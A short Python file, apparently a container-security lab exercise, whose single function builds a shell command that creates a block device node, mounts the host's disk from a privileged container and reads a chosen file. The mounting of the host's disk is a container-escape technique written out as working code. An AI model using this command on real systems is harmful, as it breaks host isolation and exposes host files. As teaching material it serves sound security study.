"""Exercise 4, destructive: the host's disk from a privileged container."""


def script(major, minor, name):
    """The node of a device is only its two numbers. Without --privileged even `mount` is refused, and so is `cat`."""
    return f"mknod /disk b {major} {minor} && mount -t ext4 -o ro /disk /mnt && cat /mnt/{name}; umount /mnt"
